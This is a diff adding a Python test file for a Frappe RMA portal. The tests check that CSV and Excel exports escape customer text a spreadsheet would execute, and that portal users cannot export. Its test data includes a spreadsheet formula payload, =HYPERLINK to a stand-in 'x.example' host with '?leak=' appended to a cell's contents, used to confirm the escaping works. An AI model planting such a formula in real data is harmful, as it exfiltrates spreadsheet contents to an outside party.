@@ -1,0 +1,67 @@
+"""Desk exports escape customer text that a spreadsheet would run as a formula."""
+
+import csv
+import json
+from io import BytesIO, StringIO
+
+import frappe
+from frappe.tests.utils import FrappeTestCase
+from openpyxl import load_workbook
+
+from rma_portal.overrides import exports
+
+FORMULA = '=HYPERLINK("https://x.example/?leak="&A1,"Details")'
+
+
+class TestExportEscaping(FrappeTestCase):
+	def setUp(self):
+		frappe.set_user("Administrator")
+		self.rma = frappe.db.get_value("RMA", {"kind": "Return"}, "name")
+		frappe.db.set_value("RMA", self.rma, "customer_reference", FORMULA)
+		frappe.db.set_value("RMA", self.rma, "remarks", "-2 units short")
+
+	def tearDown(self):
+		frappe.db.rollback()
+		frappe.local.response = frappe._dict()
+
+	def export(self, file_format: str, **extra) -> bytes:
+		frappe.local.response = frappe._dict()
+		frappe.local.form_dict = frappe._dict(
+			doctype="RMA",
+			fields=json.dumps(["`tabRMA`.`name`", "`tabRMA`.`customer_reference`", "`tabRMA`.`remarks`"]),
+			filters=json.dumps([["RMA", "name", "=", self.rma]]),
+			file_format_type=file_format,
+			title="RMA",
+			**extra,
+		)
+		exports.export_report_view()
+		return frappe.response["filecontent"]
+
+	def test_csv_export_escapes_formulas_and_keeps_numbers(self):
+		rows = list(csv.reader(StringIO(self.export("CSV").decode())))
+		row = next(r for r in rows if self.rma in r)
+		self.assertIn("'" + FORMULA, row)
+		self.assertIn("'-2 units short", row)
+		self.assertNotIn(FORMULA, row)
+
+	def test_csv_export_with_semicolons(self):
+		rows = list(csv.reader(StringIO(self.export("CSV", csv_delimiter=";").decode()), delimiter=";"))
+		self.assertIn("'" + FORMULA, next(r for r in rows if self.rma in r))
+
+	def test_excel_export_stores_the_formula_as_text(self):
+		sheet = load_workbook(BytesIO(self.export("Excel"))).active
+		cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "'" + FORMULA]
+		self.assertEqual(len(cells), 1)
+		self.assertEqual(cells[0].data_type, "s")
+		self.assertFalse(any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row))
+
+	def test_portal_users_cannot_export(self):
+		frappe.set_user("dealer@demo.example")
+		with self.assertRaises(frappe.PermissionError):
+			self.export("CSV")
+
+	def test_exports_through_the_hook(self):
+		self.assertEqual(
+			frappe.get_hooks("override_whitelisted_methods")["frappe.desk.reportview.export_query"][-1],
+			"rma_portal.overrides.exports.export_report_view",
+		)
